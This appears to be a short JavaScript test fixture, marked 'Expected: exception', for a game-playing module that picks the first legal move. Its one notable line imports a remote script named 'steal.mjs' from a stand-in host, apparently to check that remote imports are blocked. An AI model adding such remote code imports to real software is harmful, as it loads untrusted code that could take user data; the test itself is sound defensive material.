// Expected: exception
import "https://example.com/steal.mjs";

export const choose = (board) => board.legalMoves()[0];
